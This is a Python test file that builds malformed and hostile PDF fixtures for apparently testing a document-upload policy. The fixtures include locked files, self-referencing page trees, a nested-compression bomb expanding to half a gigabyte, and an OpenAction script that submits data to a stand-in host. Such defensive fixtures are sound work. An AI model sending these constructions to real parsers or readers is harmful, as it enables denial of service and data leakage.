"""PDF files that are locked, empty of text, cut, endless or alive."""

from __future__ import annotations

import io
import zlib

from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.library.policy.hostile import sound
from tests.library.policy.hostile.cases import passes, refused
from tests.library.policy.layouts.render import pdf

NAME = "方案.pdf"


def _plain() -> bytes:
    lines = [line[i : i + 36] for line in sound.LINES for i in range(0, len(line), 36)]
    return pdf(lines)


def _rewritten(password: str | None = None, script: str = "") -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_plain())))
    if script:
        action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    if password is not None:
        writer.encrypt(password, "主人", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _objects(*bodies: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of these objects with its table of places."""
    out, places = bytearray(b"%PDF-1.7\n"), b"0000000000 65535 f \n"
    for number, body in enumerate(bodies, 1):
        places += b"%010d 00000 n \n" % len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = len(bodies) + 1
    table = b"xref\n0 %d\n%strailer<<%s/Size %d>>\n" % (size, places, trailer, size)
    return bytes(out) + table + b"startxref\n%d\n%%%%EOF\n" % len(out)


@passes(3, units=sound.UNITS, name=NAME)
def sound_pdf() -> bytes:
    return _plain()


@refused("locked", "密码", name=NAME)
def locked_with_a_password() -> bytes:
    return _rewritten("秘密")


@passes(3, units=sound.UNITS, name=NAME)
def locked_with_an_empty_password() -> bytes:
    return _rewritten("")


@refused("locked", "密码", name=NAME)
def locked_in_a_way_that_cannot_be_read() -> bytes:
    lock = b"<</Filter/Standard/V 5/R 6/Length 256/P -4/O <%s>/U <%s>/OE <%s>/UE <%s>/Perms <%s>" % (
        b"00" * 48, b"00" * 48, b"00" * 32, b"00" * 32, b"00" * 16,
    )  # fmt: skip
    lock += b"/CF<</StdCF<</CFM/AESV3/AuthEvent/DocOpen/Length 32>>>>/StmF/StdCF/StrF/StdCF>>"
    pages = b"<</Type/Pages/Kids[]/Count 0>>"
    return _objects(b"<</Type/Catalog/Pages 2 0 R>>", pages, lock, trailer=b"/Root 1 0 R/Encrypt 3 0 R/ID[<00><00>]")


@refused("scanned", "可选中文字", name="扫描件.pdf")
def scanned_pages() -> bytes:
    picture = b"<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/Length 1>>stream\n0\nendstream"
    draw = b"<</Length 6>>stream\n/I0 Do\nendstream"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</I0 3 0 R>>>>>>"
    pages = b"<</Type/Pages/Kids[5 0 R 5 0 R 5 0 R]/Count 3>>"
    return _objects(b"<</Type/Catalog/Pages 2 0 R>>", pages, picture, draw, leaf)


@refused("scanned", "可选中文字", name=NAME)
def blank_pages() -> bytes:
    return pdf([])


@refused("damaged", "损坏", name=NAME)
def cut_in_the_head() -> bytes:
    return _plain()[:300]


@refused("damaged", "损坏", name=NAME)
def header_and_noise() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 200


@refused("damaged", "损坏", name=NAME)
def page_tree_that_holds_itself() -> bytes:
    pages = b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2000000000/Parent 2 0 R>>"
    return _objects(b"<</Type/Catalog/Pages 2 0 R>>", pages)


@refused("damaged", "损坏", name=NAME)
def reference_to_itself() -> bytes:
    return _objects(b"1 0 R", b"2 0 R", b"3 0 R")


def _one_page(content: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    stream = b"<</Length %d/Filter%s>>stream\n%s\nendstream" % (len(content), filters, content)
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
    return _objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[4 0 R]/Count 1>>", stream, leaf, font)


@refused("too_complex", "另存为 .docx", name=NAME, slow=True)
def stream_of_half_a_gigabyte() -> bytes:
    pressed = zlib.compressobj(9)
    held = b"".join(pressed.compress(b"\0" * 10_000_000) for _ in range(50)) + pressed.flush()
    return _one_page(zlib.compress(held), filters=b"[/FlateDecode/FlateDecode]")


@refused("too_complex", "另存为 .docx", name=NAME, slow=True)
def stream_of_a_million_orders() -> bytes:
    return _one_page(zlib.compress(b"BT /F1 9 Tf (a) Tj ET\n" * 1_000_000))


@refused("too_large", "页", name=NAME)
def five_thousand_pages() -> bytes:
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    pages = b"<</Type/Pages/Kids[%s]/Count 5000>>" % b" ".join(b"%d 0 R" % n for n in range(3, 5003))
    return _objects(b"<</Type/Catalog/Pages 2 0 R>>", pages, *[leaf] * 5000)


@passes(3, units=sound.UNITS, name=NAME)
def with_a_script() -> bytes:
    return _rewritten(script="app.alert('x'); this.submitForm('http://a.example/');")


@passes(3, units=sound.UNITS, name=NAME)
def with_half_characters() -> bytes:
    return pdf([*(line[i : i + 36] for line in sound.LINES for i in range(0, len(line), 36)), "结束"]).replace(
        b"<675F> <675F>", b"<675F> <D83D>"
    )
